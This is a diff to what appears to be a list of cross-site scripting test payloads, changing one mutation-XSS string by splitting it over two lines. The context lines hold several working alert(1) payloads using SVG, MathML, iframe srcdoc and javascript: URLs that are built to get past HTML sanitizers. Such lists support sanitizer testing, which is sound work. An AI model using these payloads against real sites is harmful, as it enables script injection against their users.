@@ -37,7 +37,8 @@ $\{alert(1)}
 <svg><animate onbegin=alert(1) attributeName=x dur=1s>
 <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
 <svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
-<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt\
+&lt;img src=1 onerror=alert(1)&gt;">
 <math><mi//xlink:href="data:x,<script>alert(1)</script>">
 <math href="javascript:alert(1)">x</math>
 <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
